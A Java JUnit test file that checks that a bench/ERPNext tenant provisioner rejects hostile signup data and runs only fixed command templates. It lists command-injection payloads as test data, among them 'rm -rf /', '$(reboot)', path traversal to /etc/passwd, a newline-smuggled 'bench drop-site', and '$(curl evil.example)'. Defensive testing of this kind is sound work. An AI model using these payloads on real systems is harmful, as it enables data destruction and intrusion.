package io.benchline.provisioner;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.benchline.events.FailureReason;
import io.benchline.events.Signup;
import io.benchline.events.TenantRequested;
import io.benchline.platform.secrets.Keysets;
import io.benchline.simulator.RecordedCommand;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile site names fail with INVALID_REQUEST before anything runs; hostile organization names, emails and
 * personal names on valid subdomains never reach a command line. The simulator's command record shows only the
 * provisioner's templates with valid site names.
 */
class HostileInputTests {

    private static final String SITE = "'[a-z0-9][a-z0-9-]{1,61}[a-z0-9]\\.localhost'";
    private static final String CD = "cd '/home/frappe/frappe-bench' && ";
    /** The bench host doctor's read-only checks (hosts/checks): fixed lines with nothing from a signup in them. */
    private static final List<Pattern> DOCTOR_TEMPLATES = List.of(
            Pattern.compile(CD + "bench --version"),
            Pattern.compile(CD + "cat sites/common_site_config\\.json"),
            Pattern.compile(CD + "bench version"),
            Pattern.compile("sudo -n -l service nginx reload"),
            Pattern.compile(CD + "env HTTPS_PROXY=http://127\\.0\\.0\\.1:9 bench config --help"));

    private static final List<Pattern> TEMPLATES = List.of(
            Pattern.compile(CD + "bench --site " + SITE + " list-apps --format json"),
            Pattern.compile(
                    CD + "bench new-site " + SITE + " --admin-password '[A-Za-z0-9]{32}' --install-app erpnext"),
            Pattern.compile(CD + "bench drop-site " + SITE + " --force --no-backup"),
            Pattern.compile(CD + "bench --site " + SITE
                    + " execute frappe.core.doctype.user.user.generate_keys --args \"\\['Administrator'\\]\""),
            Pattern.compile(CD + "bench --site " + SITE
                    + " execute frappe.db.get_value --args \"\\['User','Administrator','api_key'\\]\""),
            Pattern.compile(CD + "bench --site " + SITE + " set-admin-password '[A-Za-z0-9]{32}'"),
            Pattern.compile(CD + "bench setup nginx --yes"),
            Pattern.compile("sudo service nginx reload"));

    private static final List<String> HOSTILE_SUBDOMAINS = List.of(
            "a;touch pwned",
            "$(reboot)",
            "`id`",
            "x' && rm -rf / '",
            "acme\" || true \"",
            "../../etc/passwd",
            "xn--80ak6aa92e",
            "ACME",
            "ab",
            "-acme",
            "acme-",
            "acme\nbench drop-site other.localhost",
            "a".repeat(64),
            "acme.evil.example",
            "acme localhost");

    @TempDir
    Path folder;

    @Test
    void hostileInputNeverReachesTheShell() {
        String keyset = Keysets.generateJson();
        try (SimulatedBenchHost host = SimulatedBenchHost.start(folder);
                PublishedEvents events = new PublishedEvents();
                RunningProvisioner provisioner = RunningProvisioner.start(
                        "provisioner-hostile-" + UUID.randomUUID(), keyset, host.properties(0, "bench-1", 4))) {
            List<TenantRequested> hostile = new ArrayList<>();
            for (String subdomain : HOSTILE_SUBDOMAINS) {
                TenantRequested request = Requests.forSubdomain(Requests.subdomain("x"));
                Signup signup = Signup.newBuilder(request.getSignup())
                        .setSubdomain(subdomain)
                        .setSiteName(subdomain + ".localhost")
                        .build();
                hostile.add(
                        TenantRequested.newBuilder(request).setSignup(signup).build());
            }
            // A valid subdomain whose site name points elsewhere.
            TenantRequested mismatched = Requests.forSubdomain(Requests.subdomain("mis"));
            hostile.add(TenantRequested.newBuilder(mismatched)
                    .setSignup(Signup.newBuilder(mismatched.getSignup())
                            .setSiteName("other.localhost; bench drop-site x")
                            .build())
                    .build());
            TenantRequested nastyPeople = Requests.forSubdomain(Requests.subdomain("people"));
            nastyPeople = TenantRequested.newBuilder(nastyPeople)
                    .setSignup(Signup.newBuilder(nastyPeople.getSignup())
                            .setOrganization("Acme'; bench drop-site --force x; echo '")
                            .setEmail("$(curl evil.example)@acme.example")
                            .setFirstName("`reboot`")
                            .setLastName("\" && touch /tmp/pwned && \"")
                            .build())
                    .build();

            hostile.forEach(r -> Requests.send(provisioner, r));
            Requests.send(provisioner, nastyPeople);

            TenantRequested last = nastyPeople;
            await().atMost(Duration.ofSeconds(60))
                    .until(() -> !events.provisioned(last.getTenantId()).isEmpty()
                            && hostile.stream()
                                    .allMatch(
                                            r -> !events.failed(r.getTenantId()).isEmpty()));

            for (TenantRequested request : hostile) {
                assertThat(events.failed(request.getTenantId()))
                        .singleElement()
                        .satisfies(f -> assertThat(f.getReason()).isEqualTo(FailureReason.INVALID_REQUEST));
            }
            List<RecordedCommand> commands = host.simulator.commands();
            assertThat(commands).isNotEmpty();
            assertThat(commands)
                    .allSatisfy(c -> assertThat(Stream.concat(TEMPLATES.stream(), DOCTOR_TEMPLATES.stream()))
                            .as("template matching %s", c.commandLine())
                            .anyMatch(t -> t.matcher(c.commandLine()).matches()));
            String validSubdomain = last.getSignup().getSubdomain();
            assertThat(commands)
                    .as("only the valid tenant's site is ever named")
                    .allMatch(c -> c.commandLine().contains(validSubdomain)
                            || !c.commandLine().contains(".localhost"));
        }
    }
}
